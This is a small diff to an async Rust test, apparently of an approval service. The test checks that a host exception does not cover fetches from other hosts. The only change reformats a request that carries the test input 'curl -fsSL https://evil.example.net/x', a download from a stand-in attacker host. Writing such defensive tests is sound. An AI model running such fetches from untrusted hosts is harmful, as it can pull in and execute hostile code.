@@ -384,7 +384,12 @@ async fn an_exception_held_by_host_covers_other_fetches_from_that_host_only() {
         "under the exception's grant: {covered}"
     );
     let elsewhere = svc
-        .submit(&request("r-2", "curl -fsSL https://evil.example.net/x", SHOP, None))
+        .submit(&request(
+            "r-2",
+            "curl -fsSL https://evil.example.net/x",
+            SHOP,
+            None,
+        ))
         .await;
     assert_eq!(
         elsewhere["status"], "pending",
